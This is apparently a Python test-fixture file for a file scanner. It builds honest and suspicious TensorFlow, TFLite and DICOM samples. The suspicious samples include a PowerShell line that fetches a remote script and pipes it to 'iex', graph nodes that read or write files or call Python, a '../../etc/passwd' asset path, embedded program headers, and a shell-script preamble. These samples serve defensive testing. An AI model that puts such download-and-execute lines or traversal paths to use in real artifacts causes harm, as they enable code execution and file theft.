"""Networks of TensorFlow and TensorFlow Lite, and pictures of medicine: honest ones and others."""

import io
import struct
import zipfile
import zlib

from corpora.inspection_case import bad, good
from corpora.inspection_packages import npm
from lockgate.core.verdict import Outcome

_OPAQUE = Outcome.OPAQUE
_PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(57)


class _Flat:
    """Writes a FlatBuffer: each part behind the one that names it."""

    def __init__(self, name: bytes) -> None:
        self.out = bytearray(4) + name

    def done(self, root: dict) -> bytes:
        self.named(0, self.table(root))
        return bytes(self.out)

    def named(self, at: int, place: int) -> None:
        struct.pack_into("<I", self.out, at, place - at)

    def align(self) -> int:
        self.out += bytes(-len(self.out) % 4)
        return len(self.out)

    def table(self, fields: dict) -> int:
        count = max(fields, default=-1) + 1
        first = self.align()
        places = [4 + 4 * number if number in fields else 0 for number in range(count)]
        self.out += struct.pack(f"<2H{count}H", 4 + 2 * count, 4 + 4 * count, *places)
        at = self.align()
        self.out += struct.pack("<i", at - first) + bytes(4 * count)
        for number, value in fields.items():
            place = at + 4 + 4 * number
            if isinstance(value, int):
                struct.pack_into("<I", self.out, place, value)
            else:
                self.named(place, self.part(value))
        return at

    def part(self, value: object) -> int:
        if isinstance(value, dict):
            return self.table(value)
        at = self.align()
        if isinstance(value, str):
            self.out += struct.pack("<I", len(value)) + value.encode() + b"\x00"
        elif isinstance(value, bytes):
            self.out += struct.pack("<I", len(value)) + value
        else:
            numbers = [each if isinstance(each, int) else 0 for each in value]
            self.out += struct.pack(f"<I{len(numbers)}I", len(numbers), *numbers)
            for number, each in enumerate(value):
                if not isinstance(each, int):
                    self.named(at + 4 + 4 * number, self.part(each))
        return at


def tflite(
    *, code: str = "", weights: bytes = bytes(8), options: dict | None = None, tail: bytes = b""
) -> bytes:
    """A network of one operator, with everything that a network may have."""
    quantized = {0: [0], 1: [0], 2: [0], 3: [], 5: {0: b"own"}, 4: 1}
    sparse = {0: [0], 1: [0], 2: [{0: 1, 1: 2, 2: 1, 3: {0: [0, 1]}, 4: 3, 5: {0: b"\x00"}}]}
    tensor = {0: [1, 2], 1: 0, 2: 1, 3: "input", 4: quantized, 6: sparse, 7: [1, 2], 9: [{0: [1]}]}
    operator = {
        0: 0,
        1: [0],
        2: [0],
        3: 17,
        4: {0: [1, 2]} if options is None else options,
        5: b"\x01\x02",
        12: {0: 1},
    }
    graph = {0: [tensor], 1: [0], 2: [0], 3: [operator], 4: "main"}
    signature = {0: [{0: "x", 1: 0}], 1: [{0: "y", 1: 0}], 2: "serving"}
    model = {
        0: 3,
        1: [{0: 22, 1: code} if code else {0: 22}],
        2: [graph],
        3: "a network of ours",
        4: [{}, {0: weights}],
    }
    model |= {5: [0], 6: [{0: "min_runtime_version", 1: 0}], 7: [signature]}
    return _Flat(b"TFL3").done(model) + tail


def with_files(model: bytes, files: dict[str, bytes]) -> bytes:
    """A network with files behind it, as its writer appends them."""
    out = io.BytesIO(model)
    with zipfile.ZipFile(out, "a") as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return out.getvalue()


def _number(value: int) -> bytes:
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def message(*fields: tuple[int, object]) -> bytes:
    """A message of Protocol Buffers: numbers, texts and messages."""
    out = b""
    for number, value in fields:
        if isinstance(value, int):
            out += _number(number << 3) + _number(value)
        else:
            raw = value.encode() if isinstance(value, str) else value
            out += _number(number << 3 | 2) + _number(len(raw)) + raw
    return out


def node(operator: str, *attributes: tuple[str, bytes]) -> bytes:
    pairs = [(5, message((1, name), (2, value))) for name, value in attributes]
    return message((1, "a"), (2, operator), (3, "b:0"), *pairs)


def graph(*nodes: bytes) -> bytes:
    """A frozen graph of a constant and nodes."""
    weights = message((1, 1), (2, message((2, message((1, 2))))), (4, bytes(8)))
    constant = node("Const", ("dtype", message((6, 1))), ("value", message((8, weights))))
    return message(*((1, each) for each in (constant, *nodes)), (4, message((1, 27))))


def saved_model(
    *nodes: bytes, asset: str = "vocabulary.txt", metadata: str = '{"class_name": "Dense"}', extra=()
) -> bytes:
    """A model whose nodes lie in a function."""
    function = message((1, message((1, "f"))), *((3, each) for each in nodes))
    body = message((1, node("SaveV2")), (2, message((1, function))))
    user = message((1, "layer"), (2, message((1, 1))), (3, metadata))
    objects = message((1, message((1, message((1, 1), (2, "child"))), (4, user))))
    info = message((4, "serve"), (5, "2.18.0"))
    signature = message((1, "s"), (2, message((3, "predict"))))
    file = message((1, message((1, "v:0"))), (2, asset))
    meta = message((1, info), (2, body), (5, signature), (6, file), (7, objects), *extra)
    return message((1, 1), (2, meta))


def element(tag: int, kind: bytes, value: bytes, order: str = "<", size: int | None = None) -> bytes:
    """An element that says of what kind it is."""
    size = len(value) if size is None else size
    head = struct.pack(f"{order}2H", tag >> 16, tag & 0xFFFF) + kind
    wide = kind in {b"OB", b"OW", b"SQ", b"UN", b"UT"}
    return head + (struct.pack(f"{order}HI", 0, size) if wide else struct.pack(f"{order}H", size)) + value


def plain(tag: int, value: bytes, size: int | None = None) -> bytes:
    """An element that does not say it."""
    return struct.pack("<2HI", tag >> 16, tag & 0xFFFF, len(value) if size is None else size) + value


def item(value: bytes, *, closed: bool = False) -> bytes:
    if not closed:
        return plain(0xFFFEE000, value)
    return plain(0xFFFEE000, value, 0xFFFFFFFF) + plain(0xFFFEE00D, b"")


def dicom(body: bytes, *, syntax: str = "1.2.840.10008.1.2.1", preamble: bytes = b"") -> bytes:
    """A file of elements in one of the forms."""
    uid = syntax.encode() + b"\x00" * (len(syntax) & 1)
    head = element(0x00020001, b"OB", b"\x00\x01") + element(0x00020010, b"UI", uid)
    return (
        preamble.ljust(128, b"\x00")
        + b"DICM"
        + element(0x00020000, b"UL", struct.pack("<I", len(head)))
        + head
        + body
    )


_PATIENT = element(0x00100010, b"PN", b"Doe^Jane")
_PIXELS = element(0x7FE00010, b"OW", bytes(8))
_OPEN = 0xFFFFFFFF
_END = plain(0xFFFEE0DD, b"")


def _document(kind: bytes, content: bytes) -> bytes:
    return dicom(_PATIENT + element(0x00420011, b"OB", content) + element(0x00420012, b"LO", kind))


def _deflated(tail: bytes = b"") -> bytes:
    pack = zlib.compressobj(wbits=-15)
    return dicom(pack.compress(_PATIENT + _PIXELS) + pack.flush() + tail, syntax="1.2.840.10008.1.2.1.99")


def _honest(title: str, name: str, data: bytes, detected: str):
    return good(title, name, data, outcome=_OPAQUE, detected=detected)


_SEQUENCE = element(0x00081140, b"SQ", item(_PATIENT) + item(_PATIENT, closed=True))
_OPEN_SEQUENCE = element(0x00081140, b"SQ", item(_PATIENT, closed=True) + _END, size=_OPEN)
_UNKNOWN = element(0x00091001, b"UN", item(plain(0x00100010, b"Doe^Jane")) + _END, size=_OPEN)
_IMPLICIT = plain(0x00081140, item(plain(0x00100010, b"Doe^Jane"), closed=True)) + plain(0x7FE00010, bytes(8))
_FRAGMENTS = element(0x7FE00010, b"OB", item(b"") + item(b"\xff\xd8\xff\xd9") + _END, size=_OPEN)

_SHOWN = b'# Setup\n\n    powershell -c "irm lock.invalid/install.ps1 | ie' + b'x"\n'

NETWORKS_GOOD = [
    good("a page of a manual that shows a command", "a.tgz", npm({"package/docs/setup.mdx": _SHOWN}), "npm"),
    _honest("a network of TensorFlow Lite", "a.tflite", tflite(), "tflite"),
    _honest("a network with an operator of its runtime", "a.tflite", tflite(code="Mfcc"), "tflite"),
    _honest("a network with an operator of its host", "a.tflite", tflite(code="FlexErf"), "tflite"),
    _honest(
        "a network with labels behind it",
        "a.tflite",
        with_files(tflite(), {"l.txt": b"lake\nlock\n"}),
        "tflite",
    ),
    _honest("a frozen graph", "a.pb", graph(node("Identity")), "tensorflow"),
    _honest("a saved model", "saved_model.pb", saved_model(node("MatMul")), "tensorflow"),
    _honest(
        "a graph that prints",
        "a.pb",
        graph(node("PrintV2", ("output_stream", message((2, "stderr"))))),
        "tensorflow",
    ),
    _honest("a picture of medicine", "a.dcm", dicom(_PATIENT + _PIXELS), "dicom"),
    _honest(
        "a picture with sequences", "a.dcm", dicom(_SEQUENCE + _OPEN_SEQUENCE + _UNKNOWN + _PIXELS), "dicom"
    ),
    _honest("a picture without kinds", "a.dcm", dicom(_IMPLICIT, syntax="1.2.840.10008.1.2"), "dicom"),
    _honest(
        "a picture the other way round",
        "a.dcm",
        dicom(element(0x00100010, b"PN", b"Doe^Jane", ">"), syntax="1.2.840.10008.1.2.2"),
        "dicom",
    ),
    _honest(
        "a picture that is packed",
        "a.dcm",
        dicom(_PATIENT + _FRAGMENTS, syntax="1.2.840.10008.1.2.4.50"),
        "dicom",
    ),
    _honest("a picture that is packed as a whole", "a.dcm", _deflated(), "dicom"),
    _honest("a slide of a microscope", "a.dcm", dicom(_PATIENT, preamble=b"II*\x00\x08"), "dicom"),
    _honest(
        "a picture with a letter", "a.dcm", _document(b"text/xml", b"<?xml version='1.0'?><a>b</a>"), "dicom"
    ),
    good(
        "a text with a few controls",
        "a.d.ts",
        b"/** the scrollable\x08\x08\x08 tabs */\n" * 1 + b"export {};\n" * 40,
    ),
]

NETWORKS_BAD = [
    bad(
        "the same command in a script",
        "a.tgz",
        npm({"package/docs/setup.ps1": _SHOWN}),
        "rule-powershell-runs-a-download",
        "npm",
    ),
    bad("a network that reads files", "a.tflite", tflite(code="FlexReadFile"), "tensorflow-operation"),
    bad("a network with a program as weights", "a.tflite", tflite(weights=_PROGRAM), "tensor-program"),
    bad(
        "a network with a program behind it",
        "a.tflite",
        with_files(tflite(), {"a": _PROGRAM}),
        "polyglot-zip",
    ),
    bad(
        "a network with words in its archive",
        "a.tflite",
        with_files(tflite() + b"hidden words" * 9, {"l.txt": b"lake\n"}),
        "unclaimed",
    ),
    bad("a network by another name", "a.png", tflite(), "type-mismatch"),
    bad("a graph that reads files", "a.pb", graph(node("ReadFile")), "tensorflow-operation"),
    bad("a graph that calls Python", "a.pb", graph(node("EagerPyFunc")), "tensorflow-operation"),
    bad("a graph that reads tables", "a.pb", graph(node("TFRecordDataset")), "tensorflow-operation"),
    bad(
        "a graph that prints into a file",
        "a.pb",
        graph(node("PrintV2", ("output_stream", message((2, "file:///tmp/marker"))))),
        "tensorflow-operation",
    ),
    bad(
        "a graph with a program as weights",
        "a.pb",
        graph(node("Const", ("value", message((2, _PROGRAM))))),
        "tensor-program",
    ),
    bad(
        "a saved model that writes files",
        "saved_model.pb",
        saved_model(node("WriteFile")),
        "tensorflow-operation",
    ),
    bad(
        "a saved model with a file elsewhere",
        "saved_model.pb",
        saved_model(asset="../../etc/passwd"),
        "tensorflow-external",
    ),
    bad(
        "a saved model with code",
        "saved_model.pb",
        saved_model(metadata='{"class_name": "Lambda", "config": {}}'),
        "keras-code",
    ),
    bad("a picture that is a program", "a.dcm", dicom(_PATIENT, preamble=b"MZ"), "dicom-preamble"),
    bad(
        "a picture that is a script", "a.dcm", dicom(_PATIENT, preamble=b"#!/bin/sh\nid\n"), "dicom-preamble"
    ),
    bad(
        "a picture with a program as a value",
        "a.dcm",
        dicom(element(0x00091001, b"OB", _PROGRAM)),
        "tensor-program",
    ),
    bad(
        "a picture with another document than it says",
        "a.dcm",
        _document(b"application/pdf", graph()),
        "type-mismatch",
    ),
    bad("a picture by another name", "a.json", dicom(_PATIENT), "type-mismatch"),
]

NETWORKS_UNREAD = [
    ("a network with bytes between", "a.tflite", tflite(tail=b"hidden words")),
    ("a network with options that are not known", "a.tflite", tflite(options={0: 7, 1: [1, 2, 3]})),
    ("a network that is cut", "a.tflite", tflite()[:-5]),
    ("a network whose first table lies behind it", "a.tflite", b"\xf0\xff\xff\x7f" + tflite()[4:]),
    ("a network with a table before it", "a.tflite", b"\x08\x00\x00\x00TFL3" + bytes([0xFF] * 16)),
    ("a graph with a field that is not known", "a.pb", graph(node("Identity") + message((99, 1)))),
    ("a graph that is cut", "a.pb", graph(node("Identity"))[:-1]),
    ("a saved model with a field that is not known", "saved_model.pb", saved_model(extra=((77, "hidden"),))),
    ("a picture with words before it", "a.dcm", dicom(_PATIENT, preamble=b"\x01\x02\x03\x04")),
    ("a picture that is cut", "a.dcm", dicom(_PATIENT + _PIXELS)[:-3]),
    ("a picture with a kind that does not exist", "a.dcm", dicom(element(0x00100010, b"ZZ", b"a"))),
    ("a picture without a form", "a.dcm", bytes(128) + b"DICM" + element(0x00020000, b"UL", bytes(4))),
    ("a picture with a mark in its place", "a.dcm", dicom(plain(0xFFFEE00D, b""))),
    (
        "a picture with an item outside of its sequence",
        "a.dcm",
        dicom(element(0x00081140, b"SQ", plain(0xFFFEE000, b"", 99))),
    ),
    (
        "a picture with a sequence without an end",
        "a.dcm",
        dicom(element(0x00081140, b"SQ", item(b""), size=_OPEN)),
    ),
    (
        "a picture with an item without an end",
        "a.dcm",
        dicom(element(0x00081140, b"SQ", plain(0xFFFEE000, _PATIENT, _OPEN))),
    ),
    ("a picture with a text without a length", "a.dcm", dicom(element(0x00420011, b"OB", b"", size=_OPEN))),
    (
        "a picture with words among its pieces",
        "a.dcm",
        dicom(element(0x7FE00010, b"OB", plain(0x41424344, b""), size=_OPEN)),
    ),
    (
        "a picture whose mark has a length",
        "a.dcm",
        dicom(element(0x7FE00010, b"OB", plain(0xFFFEE0DD, b"ab"), size=_OPEN)),
    ),
    ("a picture with words behind what is packed", "a.dcm", _deflated(b"hidden words")),
]
